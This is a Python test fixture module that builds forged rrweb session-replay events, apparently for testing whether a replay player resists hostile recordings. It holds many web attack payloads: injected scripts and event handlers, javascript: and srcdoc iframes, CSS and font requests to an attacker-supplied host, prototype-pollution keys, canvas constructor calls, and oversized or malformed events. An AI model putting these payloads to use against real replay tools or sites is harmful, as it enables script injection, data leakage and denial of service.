"""Events that no recorder would make: a hostile browser writes them by hand."""

from __future__ import annotations

import json
from collections.abc import Callable
from itertools import count
from typing import Any

__all__ = ["FORGED", "element", "page", "text"]

Node = dict[str, Any]
Forged = tuple[Any, list[Any]]

_BODY = 4


def element(
    tag: str, attributes: dict[str, Any] | None = None, *children: Node, **more: Any
) -> Node:
    """Return an element as rrweb writes it, without its id."""
    return {
        "type": 2,
        "tagName": tag,
        "attributes": attributes or {},
        "childNodes": list(children),
        **more,
    }


def text(words: str, **more: Any) -> Node:
    """Return a text as rrweb writes it, without its id."""
    return {"type": 3, "textContent": words, **more}


def _numbered(node: Node, ids: Any) -> Node:
    stack = [node]
    while stack:
        at = stack.pop()
        at.setdefault("id", next(ids))
        stack.extend(at.get("childNodes", ()))
    return node


def page(*body: Node, head: tuple[Node, ...] = (), **meta: Any) -> list[Any]:
    """Return a snapshot with these nodes in its body."""
    html = element(
        "html",
        None,
        element("head", None, *head, id=3),
        element("body", None, *body, id=_BODY),
        id=2,
    )
    document = {"type": 0, "id": 1, "childNodes": [html]}
    data = {"href": "http://shop.test/", "width": 800, "height": 500, **meta}
    offset = {"top": 0, "left": 0}
    return [
        {"type": 4, "data": data, "timestamp": 1},
        {
            "type": 2,
            "data": {"node": _numbered(document, count(100)), "initialOffset": offset},
            "timestamp": 2,
        },
    ]


def _change(**data: Any) -> Any:
    empty: dict[str, Any] = {"adds": [], "removes": [], "texts": [], "attributes": []}
    return {"type": 3, "timestamp": 3, "data": {"source": 0, **empty, **data}}


def _add(node: Node, parent: int = _BODY, **more: Any) -> Any:
    return {"parentId": parent, "nextId": None, "node": _numbered(node, count(5_000)), **more}


def _deep(levels: int) -> str:
    """Return a snapshot that is nested so deep that it can only be written as text."""
    before = "".join(
        f'{{"type":2,"tagName":"div","attributes":{{}},"id":{1_000 + level},"childNodes":['
        for level in range(levels)
    )
    mark = json.dumps(text("deep", id=999))
    return json.dumps(page(text("deep", id=999))).replace(mark, before + mark + "]}" * levels)


#: name → what to send, given the attacker's address and a script that tells on itself.
FORGED: dict[str, Callable[[str, str], Forged]] = {
    "added-script": lambda evil, run: (
        page(),
        [_change(adds=[_add(element("script", {"src": f"{evil}/a.js"}, text(run)))])],
    ),
    "capitals": lambda evil, run: (
        page(
            element("ScRiPt", None, text(run)),
            element("IMG", {"SRC": f"{evil}/a.png", "OnError": run}),
            element("IFRAME", {"SRCDOC": f"<script>{run}</script>", "SRC": f"{evil}/f"}),
            element("LINK", {"REL": "stylesheet", "HREF": f"{evil}/a.css"}),
        ),
        [],
    ),
    "frame-attributes": lambda evil, run: (
        page(element("iframe", {}, id=50)),
        [
            _change(attributes=[{"id": 50, "attributes": {"srcdoc": f"<script>{run}</script>"}}]),
            _change(attributes=[{"id": 50, "attributes": {"src": f"{evil}/frame"}}]),
            _change(attributes=[{"id": 50, "attributes": {"src": f"javascript:{run}"}}]),
        ],
    ),
    "handler-later": lambda evil, run: (
        page(element("img", {}, id=50)),
        [_change(attributes=[{"id": 50, "attributes": {"onerror": run, "src": f"{evil}/l.png"}}])],
    ),
    "sheet-as-text": lambda evil, _: (
        page(head=(element("style", {}, text("", id=51), id=50),)),
        [
            _change(texts=[{"id": 51, "value": f"@import '{evil}/t.css';"}]),
            _change(texts=[{"id": 51, "value": f"body{{background:url({evil}/t.png)}}"}]),
            _change(adds=[_add(text(f"p{{background:url({evil}/u.png)}}"), 50)]),
        ],
    ),
    "sheet-in-pieces": lambda evil, _: (
        page(
            element("p", None, text("x")),
            head=(
                element("style", {}, text("p{background:u"), text(f"rl({evil}/v.png)"), text("}")),
                element(
                    "style",
                    {"_cssText": f"p{{color:u/* rr_split */rl({evil}/w.png)}}"},
                    text(""),
                    text(""),
                ),
            ),
        ),
        [],
    ),
    "sheet-by-collision": lambda evil, _: (
        page(element("div", {}, text("x", id=51), id=50)),
        [
            _change(adds=[_add(element("style", {}, id=50))]),
            _change(adds=[_add(text("", id=52), 50)]),
            _change(adds=[_add(element("div", {}, id=50))]),
            _change(texts=[{"id": 52, "value": f"body{{background:url({evil}/x.png)}}"}]),
        ],
    ),
    "recorder-attributes": lambda evil, run: (
        page(
            element("div", {"rr_src": f"{evil}/a", "rr_width": f"1px;background:url({evil}/b)"}),
            element("img", {"rr_dataURL": f"{evil}/c.png", "srcset": f"{evil}/d.png 1x"}),
            element("canvas", {"rr_dataURL": f"{evil}/e.png", "width": 1e9, "height": 1e9}),
            element(
                "video",
                {"rr_mediaState": "played", "src": f"{evil}/f.mp4", "rr_mediaSrc": f"{evil}/g.mp4"},
            ),
            element(
                "link", {"_cssText": f"@import '{evil}/h.css';body{{background:url({evil}/i)}}"}
            ),
            element("p", {"_cssText": f"p{{background:url({evil}/j)}}", "_onclick": run}),
        ),
        [],
    ),
    "sheet-rules": lambda evil, _: (
        page(element("p", None, text("x")), head=(element("style", {}, id=50),)),
        [
            {"type": 3, "timestamp": 3, "data": data}
            for data in (
                {"source": 8, "id": 50, "adds": [{"rule": f"p{{background:url({evil}/r)}}"}]},
                {"source": 8, "id": 50, "adds": [{"rule": f"@import '{evil}/r.css'", "index": 0}]},
                {
                    "source": 13,
                    "id": 50,
                    "index": [0],
                    "set": {"property": "background", "value": f"url({evil}/s)"},
                },
                {
                    "source": 15,
                    "id": 1,
                    "styleIds": [1],
                    "styles": [
                        {"styleId": 1, "rules": [{"rule": f"p{{border-image:url({evil}/t)}}"}]}
                    ],
                },
                {"source": 8, "styleId": 1, "replaceSync": f"i{{background:url({evil}/u)}}"},
                {"source": 8, "styleId": 1, "replace": f"p{{background:url({evil}/v)}}"},
            )
        ],
    ),
    "fonts": lambda evil, _: (
        page(element("p", {"style": "font-family:evil"}, text("x"))),
        [
            {
                "type": 3,
                "timestamp": 3,
                "data": {
                    "source": 10,
                    "family": "evil",
                    "buffer": False,
                    "fontSource": f"url({evil}/font.woff2)",
                },
            }
        ],
    ),
    "canvas": lambda evil, run: (
        page(element("canvas", {"width": 10, "height": 10}, id=50)),
        [
            {
                "type": 3,
                "timestamp": 3,
                "data": {
                    "source": 9,
                    "id": 50,
                    "type": 0,
                    "commands": [
                        {
                            "property": "drawImage",
                            "args": [{"rr_type": "HTMLImageElement", "src": f"{evil}/c.png"}, 0, 0],
                        },
                        {"property": "constructor.constructor", "args": [run]},
                    ],
                },
            },
        ],
    ),
    "pollution": lambda evil, run: (
        page(
            element("img", {"__proto__": {"onerror": run}, "constructor": "x", "id": "x"}),
            {"type": 2, "tagName": "__proto__", "attributes": {}, "childNodes": []},
        ),
        [
            _change(attributes=[{"id": 4, "attributes": {"__proto__": {"src": f"{evil}/p"}}}]),
            _change(attributes=[{"id": "__proto__", "attributes": {"src": f"{evil}/q"}}]),
            {"type": 3, "timestamp": 3, "data": {"source": "__proto__", "id": "constructor"}},
        ],
    ),
    "style-object": lambda evil, _: (
        page(element("p", {}, text("x"), id=50)),
        [
            _change(
                attributes=[
                    {
                        "id": 50,
                        "attributes": {
                            "style": {
                                "background": f"url({evil}/o.png)",
                                "border-image": [f"image-set('{evil}/q.png' 1x)", "important"],
                                "cssText": f"background:url({evil}/c.png)",
                            }
                        },
                    }
                ]
            ),
        ],
    ),
    "nested-document": lambda evil, run: (
        page(element("iframe", {}, id=50)),
        [
            _change(
                isAttachIframe=True,
                adds=[
                    _add(
                        {
                            "type": 0,
                            "childNodes": [
                                element(
                                    "html",
                                    None,
                                    element(
                                        "head",
                                        None,
                                        element(
                                            "meta",
                                            {"http-equiv": "refresh", "content": f"0;url={evil}/m"},
                                        ),
                                        element("base", {"href": evil}),
                                    ),
                                    element(
                                        "body",
                                        {"onload": run},
                                        element("script", None, text(run)),
                                        element("img", {"src": f"{evil}/n.png", "onerror": run}),
                                    ),
                                )
                            ],
                        },
                        50,
                    )
                ],
            ),
        ],
    ),
    "second-document": lambda evil, run: (
        page(),
        [
            _change(adds=[_add({"type": 0, "childNodes": [element("html", {"onload": run})]}, 1)]),
            _change(adds=[_add(element("html", {"manifest": f"{evil}/m"}), 1)]),
            _change(removes=[{"id": 1, "parentId": 0}, {"id": 2, "parentId": 1}]),
        ],
    ),
    "plug-ins": lambda evil, run: (
        page(),
        [
            {"type": 5, "timestamp": 3, "data": {"tag": run, "payload": {"src": evil}}},
            {"type": 6, "timestamp": 3, "data": {"plugin": run, "payload": evil}},
            {"type": 3, "timestamp": 3, "data": {"source": 11, "payload": [run]}},
            {"type": 3, "timestamp": 3, "data": {"source": 7, "id": 4, "type": 0}},
            {"type": 3, "timestamp": 3, "data": {"source": 2, "type": 5, "id": 4}},
            {"type": 3, "timestamp": 3, "data": {"source": 16, "define": {"name": "x-evil"}}},
        ],
    ),
    "deep": lambda _evil, _run: (_deep(3_000), []),
    "wide": lambda _evil, _run: (page(*(text("x") for _ in range(20_000)), width=1e9), []),
    "endless-siblings": lambda _evil, _run: (
        page(),
        [
            _change(
                adds=[
                    {"parentId": 9_000 + n, "nextId": 9_001 + n, "node": element("p", id=9_002 + n)}
                    for n in range(500)
                ]
            ),
        ],
    ),
    "nonsense": lambda _evil, _run: (
        page(),
        [
            None,
            5,
            [],
            {"type": 3},
            {"type": 3, "data": {"source": 0, "adds": 7}},
            _change(adds=[None, {"node": None}, {"parentId": 4, "node": {"type": 9, "id": 7_000}}]),
            {"type": 3, "data": {"source": 3, "id": 1, "x": "a", "y": None}},
        ],
    ),
}
